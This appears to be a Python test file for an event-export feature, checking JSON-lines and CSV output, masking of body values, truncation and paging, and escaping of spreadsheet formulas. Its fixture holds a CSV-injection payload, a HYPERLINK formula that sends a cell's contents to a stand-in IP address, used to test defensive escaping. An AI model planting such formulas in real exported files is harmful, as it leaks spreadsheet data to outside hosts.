"""Exports of a search: what is in the file, in which form, and that its memory is bounded."""

from __future__ import annotations

import csv
import io
import json
from itertools import islice

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from flowhooks import Reject
from flowhooks.ledger.queries import EventFilter
from flowhooks.operations import event_export
from flowhooks.operations.event_export import (
    BYTE_ORDER_MARK,
    FORMULA_STARTS,
    Bodies,
    EventExport,
    ExportFormat,
    ExportRequest,
    escape_formula,
)
from flowhooks.operations.json.events import event_to_json

pytestmark = pytest.mark.either

FORMULA = '=HYPERLINK("http://192.0.2.1/?x="&A1;"look")\r\n@cmd, \u5408\u540c'


def work(event):
    """Succeed, or fail finally with a value of the body in the error."""
    if event.conclusion == "rejected":
        raise Reject(f"no such order: {event.data['order']}")
    return "done"


def second(event):
    """Another delivery of the same event."""


@pytest.fixture
def flow(harness, listens):
    """A ledger with an event of two deliveries, a parked one, and one whose values are formulas and line breaks."""
    flow = harness.open(listens(work, process_key="order"), listens(second, name="second", process_key="order"))
    flow.take("first", key="order", businessKey="B-17", conclusion="rejected", order="O-99", amount=1250.5)
    flow.take("parked", key="nobody")
    flow.take("formula", key="order", businessKey=FORMULA, note="line\n\u2028\x85separators", empty=None)
    return flow


def written(flow, export_format, **options):
    """The text of an export, and the export itself."""
    criteria = options.pop("criteria", {})
    request = ExportRequest(event_filter=EventFilter(**criteria), export_format=export_format, **options)
    export = EventExport(flow.app.ledger, request, mask_key=b"k" * 32)
    return b"".join([*export, export.cut_mark()]).decode(), export


def lines(flow, **options):
    """The objects of an export as JSON lines."""
    text, _ = written(flow, ExportFormat.JSON_LINES, **options)
    return [json.loads(line) for line in text.splitlines()]


def rows(flow, **options):
    """The rows of an export as CSV."""
    text, _ = written(flow, ExportFormat.CSV, **options)
    assert text.startswith(BYTE_ORDER_MARK)
    return list(csv.DictReader(io.StringIO(text[1:], newline="")))


def test_json_lines_equal_the_api_listing(flow):
    """Each line is one event, newest first, as the API lists it; the file ends with a line break."""
    stored = flow.app.ledger.find(EventFilter(), limit=10)
    assert lines(flow) == [event_to_json(event) for event in stored]
    text, export = written(flow, ExportFormat.JSON_LINES)
    assert text.endswith("}\n")
    assert (export.written, export.next) == (3, "")


def test_json_lines_have_the_bodies_on_request(flow):
    """A body is the stored one with its nulls, on the line of its event; no character in it breaks the line."""
    formula, parked, first = lines(flow, bodies=Bodies.STORED)
    assert formula["body"] == {
        "processDefinitionKey": "order",
        "businessKey": FORMULA,
        "note": "line\n\u2028\x85separators",
        "empty": None,
    }
    assert parked["body"] == {"processDefinitionKey": "nobody"}
    assert first["body"]["amount"] == 1250.5


def test_numbers_of_a_body_are_not_rounded(flow):
    """A number is not rounded, however many digits it has."""
    event_id = flow.events(flow_instance_id="parked")[0]
    body = '{\n "processDefinitionKey": "nobody",\r\n "amount": 10.100000000000000000000000001, "n": 1e2}'
    flow.sql("UPDATE events SET body = ? WHERE id = ?", body, event_id)
    text, _ = written(flow, ExportFormat.JSON_LINES, bodies=Bodies.STORED, criteria={"ids": (event_id,)})
    assert '"amount": 10.100000000000000000000000001, "n": 1e2}' in text
    assert len(text.splitlines()) == 1


def test_csv_has_a_row_for_each_delivery(flow):
    """An event has a row for each delivery, and one row without any; the columns have the names of the JSON."""
    found = rows(flow)
    assert [(row["flow_instance_id"], row["handler"], row["delivery_state"]) for row in found] == [
        ("formula", "p:work", "succeeded"),
        ("formula", "p:second", "succeeded"),
        ("parked", "", ""),
        ("first", "p:work", "dead"),
        ("first", "p:second", "succeeded"),
    ]
    assert found[2]["event_state"] == "parked"
    assert (found[3]["error"], found[3]["attempts"]) == ("no such order: O-99", "1")
    assert found[3]["route"] == "key order"
    assert "body" not in found[0]
    event = event_to_json(flow.app.ledger.find(EventFilter(), limit=1)[0])
    assert set(found[0]) >= set(event) - {"id", "state", "deliveries"} | set(event["deliveries"][0]) - {"id", "state"}


def test_csv_has_the_bodies_on_request(flow):
    """The last column is the body as JSON."""
    found = rows(flow, bodies=Bodies.STORED)
    assert json.loads(found[-1]["body"])["order"] == "O-99"


def test_no_cell_is_a_formula(flow):
    """A cell that a spreadsheet would calculate starts with an apostrophe, and all cells are quoted."""
    text, _ = written(flow, ExportFormat.CSV)
    assert rows(flow)[0]["business_key"] == f"'{FORMULA}"
    for record in text[1:].split("\r\n"):
        assert not record or record[0] == '"' or record.startswith("@cmd")
    assert not [cell for row in rows(flow) for cell in row.values() if cell.startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1"])
def test_formulas_are_escaped(text):
    """These are the starts that OWASP names; the text follows unchanged."""
    assert escape_formula(text) == f"'{text}"


@pytest.mark.parametrize("text", ["", "a=1", "1-1", "\u5408\u540c", "'=1"])
def test_texts_that_are_no_formula_are_unchanged(text):
    """A text that no spreadsheet calculates is not changed."""
    assert escape_formula(text) == text


@pytest.mark.parametrize("export_format", ExportFormat)
def test_masked_exports_contain_no_body_values(flow, export_format):
    """Ids, values, errors and notes are replaced; what handlers are selected by stays."""
    text, _ = written(flow, export_format, bodies=Bodies.MASKED)
    ids = [event.event.id for event in flow.app.ledger.find(EventFilter(), limit=10)]
    for secret in ("B-17", "O-99", "1250.5", "first", "separators", "HYPERLINK", *ids):
        assert secret not in text, secret
    for kept in ("order", "nobody", "rejected", "p:work", "dead", "complete"):
        assert kept in text, kept


def test_equal_ids_have_equal_pseudonyms_in_one_export(flow):
    """In one export equal ids have equal pseudonyms; in another one they have others."""
    first = lines(flow, bodies=Bodies.MASKED)[-1]
    assert first["body"]["businessKey"] == first["business_key"]
    assert first["body"]["conclusion"] == first["conclusion"] == "rejected"
    assert isinstance(first["body"]["amount"], float)
    request = ExportRequest(event_filter=EventFilter(), export_format=ExportFormat.JSON_LINES, bodies=Bodies.MASKED)
    other = b"".join(EventExport(flow.app.ledger, request, mask_key=b"o" * 32))
    assert json.loads(other.splitlines()[-1])["business_key"] != first["business_key"]


@pytest.mark.parametrize("bodies", Bodies)
def test_a_truncated_export_names_the_event_to_continue_after(flow, bodies):
    """The newest events are written; the last line names the event after which the next export continues.

    That of a masked export does not: it would be the real id of the event whose pseudonym is in the line before.
    """
    newest, parked, oldest = (event.event.id for event in flow.app.ledger.find(EventFilter(), limit=10))
    text, export = written(flow, ExportFormat.JSON_LINES, bodies=bodies, max_events=2)
    assert (export.written, export.next) == (2, parked)
    is_masked = bodies is Bodies.MASKED
    assert json.loads(text.splitlines()[-1]) == {"next": None if is_masked else parked}
    assert not is_masked or parked not in text
    *found, mark = rows(flow, bodies=bodies, max_events=2)
    assert len(found) == 3
    assert mark["event_id"] == "only the newest 2 events" + ("" if is_masked else f"; continue after {parked}")
    _, rest = written(flow, ExportFormat.JSON_LINES, bodies=bodies, max_events=1, before=export.next)
    assert (rest.written, rest.next) == (1, "")
    if bodies is Bodies.NONE:
        assert [event["id"] for event in lines(flow, before=newest)] == [parked, oldest]


def test_a_filter_selects_the_exported_events(flow):
    """Only the events of the search are exported; without any the file has the header, or no line."""
    assert [event["flow_instance_id"] for event in lines(flow, criteria={"state": "dead"})] == ["first"]
    assert lines(flow, criteria={"flow_instance_id": "none"}) == []
    assert rows(flow, criteria={"flow_instance_id": "none"}) == []


def test_pages_are_read_one_at_a_time(harness, flow, monkeypatch):
    """The first part is yielded before the second page is read, and events that are purged meanwhile are left out."""
    harness.check_at_end = False
    monkeypatch.setattr(event_export, "PAGE_SIZE", 1)
    request = ExportRequest(event_filter=EventFilter(), export_format=ExportFormat.JSON_LINES, bodies=Bodies.STORED)
    export = EventExport(flow.app.ledger, request)
    parts = iter(export)
    (first,) = islice(parts, 1)
    assert (json.loads(first)["flow_instance_id"], export.written) == ("formula", 1)
    parked = flow.events(flow_instance_id="parked")[0]
    flow.sql("DELETE FROM events WHERE id = ?", parked)
    assert [json.loads(part)["flow_instance_id"] for part in parts] == ["first"]


def test_a_damaged_body_is_null(flow):
    """A body that is no JSON is exported as null, and the event says that it is damaged."""
    event_id = flow.events(flow_instance_id="parked")[0]
    flow.sql("UPDATE events SET body = ? WHERE id = ?", '{"amount": NaN}', event_id)
    (event,) = lines(flow, bodies=Bodies.STORED, criteria={"ids": (event_id,)})
    assert event["body"] is None
    assert "body" in event["damaged"]


def _cells(text):
    """The cells of a CSV text as a spreadsheet reads them: with a comma or, in some countries, a semicolon."""
    for delimiter in (",", ";"):
        for row in csv.reader(io.StringIO(text.removeprefix(BYTE_ORDER_MARK), newline=""), delimiter=delimiter):
            yield from row


@settings(max_examples=100)
@given(text=st.text(max_size=30) | st.from_regex(r'[=+@\t;,"\r\n-]{1,4}\w{0,3}', fullmatch=True))
def test_any_text_stays_in_one_cell(text):
    """Whatever a sender writes, it is one cell after an apostrophe or as it is, and no part of it starts a cell."""
    written_text = event_export._csv([[escape_formula(text), "end"]])
    (row,) = csv.reader(io.StringIO(written_text, newline=""))
    assert row == [escape_formula(text), "end"]
    assert not [cell for cell in _cells(written_text) if cell.startswith(FORMULA_STARTS)]
